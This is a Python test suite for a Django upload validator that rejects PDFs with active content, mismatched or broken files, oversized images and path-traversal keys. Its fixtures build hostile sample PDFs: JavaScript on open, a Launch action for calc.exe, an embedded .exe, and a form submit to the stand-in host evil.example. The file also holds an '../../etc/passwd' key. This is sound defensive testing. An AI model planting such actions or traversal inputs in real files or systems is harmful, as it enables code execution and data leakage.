"""Uploaded materials (C8 licensing materials): each kind of bad file refused with the field and the exact
reason, nothing stored; a good file stored once by its digest as a private file. The PDFs are built here
with reportlab and pypdf, the images with Pillow."""

from __future__ import annotations

import hashlib
import io
import os
import stat

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject
from reportlab.pdfgen import canvas

from certhub.core.errors import NotFound, ValidationFailed
from certhub.core.uploads import CheckedUpload, check_upload, open_upload, read_upload, store_upload


@pytest.fixture(autouse=True)
def upload_dir(settings, tmp_path):
    settings.CERTHUB_UPLOAD_DIR = tmp_path / "uploads"
    return settings.CERTHUB_UPLOAD_DIR


def plain_pdf(text: str = "营业执照副本") -> bytes:
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer, invariant=True)
    page.drawString(72, 720, text)
    page.showPage()
    page.save()
    return buffer.getvalue()


def rewritten(change) -> bytes:
    """plain_pdf() read by pypdf, changed by `change(writer)`, written out again."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain_pdf())))
    change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def javascript_on_open(writer: PdfWriter) -> None:
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('x')")}
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)


def harmless_open_action(writer: PdfWriter) -> None:
    # Open at page 1, fitted: a destination, which every office suite writes.
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, NameObject("/Fit")]
    )


def launch_on_page_open(writer: PdfWriter) -> None:
    launch = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")})
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): launch})


def attachment(writer: PdfWriter) -> None:
    writer.add_attachment("invoice.exe", b"MZ\x90\x00")


def xfa_form(writer: PdfWriter) -> None:
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): TextStringObject("<xdp/>")}
    )


def submit_form(writer: PdfWriter) -> None:
    submit = DictionaryObject(
        {NameObject("/S"): NameObject("/SubmitForm"), NameObject("/F"): TextStringObject("https://evil.example/")}
    )
    first = DictionaryObject({NameObject("/S"): NameObject("/GoTo"), NameObject("/D"): ArrayObject([NumberObject(0)])})
    first[NameObject("/Next")] = submit
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(first)


def encrypted(writer: PdfWriter) -> None:
    writer.encrypt(user_password="", owner_password="owner", algorithm="AES-128")


def image(kind: str, size: tuple[int, int] = (40, 30)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, format=kind)
    return buffer.getvalue()


def refusal(name: str, data: bytes, **options) -> dict[str, list[str]]:
    with pytest.raises(ValidationFailed) as refused:
        check_upload(name, data, field="materials", **options)
    assert refused.value.code == "bad_upload"
    return refused.value.errors


def stored_files(upload_dir) -> list[str]:
    if not upload_dir.exists():
        return []
    return sorted(str(p.relative_to(upload_dir)) for p in upload_dir.rglob("*") if p.is_file())


# ------------------------------------------------------------------ checking


def test_a_good_pdf_and_good_images_pass_with_their_kind_and_digest():
    pdf = plain_pdf()
    assert check_upload("营业执照.PDF", pdf, field="materials") == CheckedUpload(
        "pdf", "application/pdf", len(pdf), hashlib.sha256(pdf).hexdigest()
    )
    png, jpeg = image("PNG"), image("JPEG")
    assert check_upload("场地照片.png", png, field="materials") == CheckedUpload(
        "png", "image/png", len(png), hashlib.sha256(png).hexdigest()
    )
    for name in ("a.jpg", "a.jpeg", "a.JPG"):
        assert check_upload(name, jpeg, field="materials").kind == "jpeg"
    # An open action that only opens page 1 is not active content.
    assert check_upload("a.pdf", rewritten(harmless_open_action), field="materials").kind == "pdf"


@pytest.mark.parametrize(
    ("change", "found"),
    [
        (javascript_on_open, "/OpenAction、/JS、/JavaScript"),
        (launch_on_page_open, "/AA、/Launch"),
        (attachment, "/EmbeddedFile、/EmbeddedFiles"),
        (xfa_form, "/XFA"),
        (submit_form, "/OpenAction、/SubmitForm"),
    ],
)
def test_a_pdf_with_active_content_is_refused_naming_what_was_found(change, found, upload_dir):
    assert refusal("申请书.pdf", rewritten(change)) == {
        "materials": [
            f"PDF含有活动内容（{found}），不予接受：请上传不含脚本、附件、表单提交或外部程序的PDF",
        ]
    }
    assert stored_files(upload_dir) == []


def test_a_javascript_name_tree_is_found_without_an_open_action():
    def names_tree_script(writer: PdfWriter) -> None:
        # A document-level script (ISO 32000-1 §12.6.4.16): run by readers when the file opens.
        script = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("this.print();")}
        )
        tree = DictionaryObject(
            {NameObject("/Names"): ArrayObject([TextStringObject("print"), writer._add_object(script)])}
        )
        writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})

    assert refusal("a.pdf", rewritten(names_tree_script)) == {
        "materials": ["PDF含有活动内容（/JS、/JavaScript），不予接受：请上传不含脚本、附件、表单提交或外部程序的PDF"]
    }


def test_an_encrypted_or_broken_pdf_is_refused():
    assert refusal("a.pdf", rewritten(encrypted)) == {"materials": ["PDF文件已加密：请上传未加密的文件"]}
    broken = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R\n" + b"\x00" * 200
    assert refusal("a.pdf", broken) == {"materials": ["PDF文件无法解析：文件已损坏，或不是PDF"]}
    truncated = plain_pdf()[:400]
    assert refusal("a.pdf", truncated) == {"materials": ["PDF文件无法解析：文件已损坏，或不是PDF"]}


def test_content_that_is_not_what_the_name_says_is_refused():
    assert refusal("营业执照.pdf", image("PNG")) == {"materials": ["文件内容是PNG，与扩展名.pdf不符"]}
    assert refusal("photo.png", image("JPEG")) == {"materials": ["文件内容是JPEG，与扩展名.png不符"]}
    assert refusal("scan.jpg", plain_pdf()) == {"materials": ["文件内容是PDF，与扩展名.jpg不符"]}
    assert refusal("营业执照", plain_pdf()) == {
        "materials": ["文件名“营业执照”没有扩展名：文件内容是PDF，扩展名应为.pdf"]
    }


def test_content_of_a_kind_not_allowed_or_not_recognised_is_refused():
    assert refusal("a.png", image("PNG"), allowed=("pdf",)) == {"materials": ["文件内容是PNG，只接受PDF文件"]}
    assert refusal("a.pdf", b"just some text, not a PDF at all") == {
        "materials": ["无法识别文件内容：只接受PDF、PNG、JPEG文件"]
    }
    zipped = b"PK\x03\x04" + b"\x00" * 100
    assert refusal("a.pdf", zipped) == {"materials": ["无法识别文件内容：只接受PDF、PNG、JPEG文件"]}


def test_an_empty_file_and_a_file_over_the_limit_are_refused(settings, upload_dir):
    assert refusal("a.pdf", b"") == {"materials": ["文件“a.pdf”是空文件"]}
    pdf = plain_pdf()
    assert refusal("a.pdf", pdf, max_bytes=1024) == {"materials": [f"文件大小为{len(pdf)}字节，超过上限1 KB"]}
    # The limit comes from the settings (CERTHUB_UPLOAD_MAX_BYTES) unless the caller gives one.
    settings.CERTHUB_UPLOAD_MAX_BYTES = 20 * 1024 * 1024
    big = pdf + b"\n%" + b"x" * (20 * 1024 * 1024)
    assert refusal("a.pdf", big) == {"materials": ["文件大小为20.0 MB，超过上限20 MB"]}
    assert stored_files(upload_dir) == []


def test_an_image_that_does_not_decode_or_has_too_many_pixels_is_refused(settings):
    png = bytearray(image("PNG"))
    idat = png.index(b"IDAT")
    png[idat + 8] ^= 0xFF  # a byte of the compressed pixels: the chunk's CRC no longer holds
    assert refusal("a.png", bytes(png)) == {"materials": ["图片无法解码：文件已损坏，或不是有效的PNG图片"]}
    truncated = image("PNG")[:30]
    assert refusal("a.png", truncated) == {"materials": ["图片无法解码：文件已损坏，或不是有效的PNG图片"]}
    settings.CERTHUB_UPLOAD_MAX_PIXELS = 1000
    assert refusal("a.jpg", image("JPEG", (40, 30))) == {
        "materials": ["图片像素过多（40×30，上限1000像素）：请缩小后再上传"]
    }
    settings.CERTHUB_UPLOAD_MAX_PIXELS = 50_000_000
    assert check_upload("a.jpg", image("JPEG", (40, 30)), field="materials").kind == "jpeg"


# ------------------------------------------------------------------ storing


def test_a_checked_file_is_stored_once_by_its_digest_as_a_private_file(upload_dir):
    pdf = plain_pdf()
    checked = check_upload("营业执照.pdf", pdf, field="materials")
    key = store_upload(checked, pdf)
    digest = hashlib.sha256(pdf).hexdigest()
    assert key == digest
    path = upload_dir / digest[:2] / digest
    assert stored_files(upload_dir) == [f"{digest[:2]}/{digest}"]
    assert stat.S_IMODE(upload_dir.stat().st_mode) == 0o700
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert open_upload(key) == pdf
    # The same content again: the same key, the same file left as it was.
    before = path.stat()
    assert store_upload(check_upload("副本.pdf", pdf, field="materials"), pdf) == key
    assert (path.stat().st_ino, path.stat().st_mtime_ns) == (before.st_ino, before.st_mtime_ns)
    assert stored_files(upload_dir) == [f"{digest[:2]}/{digest}"]


def test_store_refuses_data_other_than_what_was_checked(upload_dir):
    checked = check_upload("a.pdf", plain_pdf(), field="materials")
    with pytest.raises(ValueError, match="not the content that was checked"):
        store_upload(checked, plain_pdf("另一份"))
    assert stored_files(upload_dir) == []


def test_open_upload_refuses_unknown_malformed_and_damaged_keys(upload_dir):
    with pytest.raises(NotFound) as unknown:
        open_upload("0" * 64)
    assert unknown.value.message == "没有这个上传文件"
    with pytest.raises(NotFound) as traversal:
        open_upload("../../etc/passwd")
    assert traversal.value.message == "没有这个上传文件"
    png = image("PNG")
    key = store_upload(check_upload("a.png", png, field="materials"), png)
    path = upload_dir / key[:2] / key
    os.chmod(path, 0o600)
    path.write_bytes(png[:-1] + b"\x00")
    with pytest.raises(NotFound) as damaged:
        open_upload(key)
    assert damaged.value.message == "上传文件已损坏，请重新上传"


def test_an_uploaded_file_is_refused_by_its_size_before_it_is_read(upload_dir):
    class Unreadable(SimpleUploadedFile):
        def read(self, *args):
            raise AssertionError("an over-limit upload must not be read")

    pdf = plain_pdf()
    with pytest.raises(ValidationFailed) as refused:
        read_upload(Unreadable("a.pdf", pdf), field="materials", max_bytes=1024)
    assert refused.value.errors == {"materials": [f"文件大小为{len(pdf)}字节，超过上限1 KB"]}
    checked, data = read_upload(SimpleUploadedFile("a.pdf", pdf), field="materials")
    assert (checked.kind, data) == ("pdf", pdf)
    with pytest.raises(ValidationFailed) as mismatched:
        read_upload(SimpleUploadedFile("a.pdf", image("PNG")), field="materials")
    assert mismatched.value.errors == {"materials": ["文件内容是PNG，与扩展名.pdf不符"]}
    assert stored_files(upload_dir) == []
